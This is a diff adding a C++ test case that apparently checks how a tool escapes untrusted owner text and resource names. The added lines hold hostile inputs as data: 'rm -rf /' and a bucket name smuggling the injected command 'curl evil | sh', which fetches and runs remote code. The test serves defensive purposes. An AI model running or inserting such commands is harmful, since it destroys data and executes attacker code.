@@ -84,6 +84,11 @@ TEST(Commands, WhatCountsInOneAccountOrRegionAloneIsNamedByItsId) {
   EXPECT_EQ(WordOf(queue), "sqs/Queue/jobs");
 }
 
+TEST(Commands, WhatOwnersSayIsNone) {
+  EXPECT_EQ(Said("run `rm -rf /`\n"), "run 'rm -rf /'\\u{0a}");
+  EXPECT_EQ(ResourceInWords(OwnerOf(kHostile)), "S3 bucket \"x'; curl evil | sh; '\"");
+}
+
 TEST(Commands, WhatIsToObserveIsNamedByPlainWordsOnly) {
   const std::string patch = R"( --type merge -p '{"spec":{"managementPolicies":["Observe"]}}')";
   EXPECT_EQ(ObserveCommand(kBucket), "kubectl patch bucket.s3.aws.upbound.io files" + patch);
